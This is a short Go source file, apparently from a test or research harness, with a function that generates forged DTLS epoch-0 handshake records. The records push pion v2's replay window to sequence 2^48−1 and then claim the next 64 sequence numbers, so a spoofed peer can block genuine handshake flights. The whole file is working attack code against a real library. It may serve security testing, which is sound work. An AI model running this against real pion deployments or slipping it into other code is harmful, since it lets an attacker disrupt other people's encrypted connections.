package forge

// HandshakeSequenceRun is what a forger on a peer's address sends into a
// handshake to seize pion v2's epoch-0 replay window: epoch-0 handshake
// records, one at sequence number 2^48−1 (the window moved past every
// genuine number), then one at each of the 64 numbers from next on, those
// the peer's flights take next. Each holds a well-formed handshake
// fragment header of type msgType, empty, with a message number (200) no
// flight uses: pion takes the record, and its handshake never asks for the
// message.
func HandshakeSequenceRun(next uint64, msgType byte) [][]byte {
	stray := []byte{msgType, 0, 0, 0, 0, 200, 0, 0, 0, 0, 0, 0}
	run := [][]byte{Record(22, 0, 1<<48-1, stray)}
	for seq := next; seq < next+64; seq++ {
		run = append(run, Record(22, 0, seq, stray))
	}
	return run
}
